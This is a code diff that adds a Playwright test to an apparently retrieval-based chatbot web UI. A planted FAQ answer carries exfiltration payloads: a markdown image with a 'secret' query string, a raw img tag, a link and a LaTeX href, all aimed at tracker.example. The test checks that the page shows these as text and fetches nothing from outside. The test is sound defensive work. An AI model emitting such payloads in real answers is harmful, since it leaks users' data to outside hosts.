@@ -74,3 +74,42 @@ def _chat_and_like(page: Any, feedback: Path) -> dict:
             return ratings[-1]
         time.sleep(0.2)
     raise AssertionError("no rating reached feedback.jsonl")
+
+
+@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed (apt-get install chromium)")
+def test_an_answer_with_a_markdown_image_makes_the_browser_fetch_nothing(tiny_model_dir: Path, tmp_path: Path) -> None:
+    """A FAQ answer (served verbatim by the retrieval system) carries an exfiltration image: the page
+    must show it as text and make no request to any host but the server's own."""
+    from playwright.sync_api import sync_playwright
+
+    from serve.systems import SystemRouter
+    from tunebot.config_eval import RetrievalConfig
+    from tunebot.prompts import make_record
+
+    trap = ("See ![logo](http://tracker.example/p.png?q=secret) and <img src=\"http://tracker.example/i.png\"> "
+            "[here](http://tracker.example/x) $\\href{http://tracker.example/k}{k}$")
+    records = [make_record("faq-1", "faq.csv:2", "en", "S", "How do I track my parcel?", trap)]
+    engine = TransformersEngine(str(tiny_model_dir), None, max_model_len=256)
+    router = SystemRouter(engine, records, RetrievalConfig(k=1))
+    app = create_app(router, GatewaySettings(system_prompt="S", api_key=None, max_model_len=256, default_max_tokens=4))
+    port = free_port()
+    app = mount_ui(app, f"http://127.0.0.1:{port}/v1", None, router.names(), tmp_path / "feedback.jsonl", "retrieval")
+    outside: list[str] = []
+    with serving(app, port) as url, sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
+        page = browser.new_page(viewport={"width": 1280, "height": 900})
+        page.on("request", lambda request: outside.append(request.url) if "127.0.0.1" not in request.url
+                and not request.url.startswith(("data:", "blob:")) else None)
+        page.route("**/*", lambda route: route.abort() if "127.0.0.1" not in route.request.url else route.continue_())
+        page.goto(f"{url}/ui/", wait_until="load")
+        page.locator("#ab-input textarea").fill("How do I track my parcel?")
+        page.locator("#ab-send").click()
+        page.wait_for_function("document.querySelector('#pane-b').innerText.includes('tracker.example/p.png')",
+                               timeout=60_000)
+        time.sleep(1.0)  # time for any image the answer might have made the browser load
+        shown_text = page.locator("#pane-b").inner_text()
+        images = page.locator("#pane-b img").evaluate_all("nodes => nodes.map(n => n.src)")
+        links = page.locator("#pane-b a").evaluate_all("nodes => nodes.map(n => n.href)")
+        browser.close()
+    assert "![logo](http://tracker.example/p.png?q=secret)" in shown_text and '<img src="http://tracker.example/i.png">' in shown_text
+    assert not any("tracker.example" in src for src in images + links) and outside == []
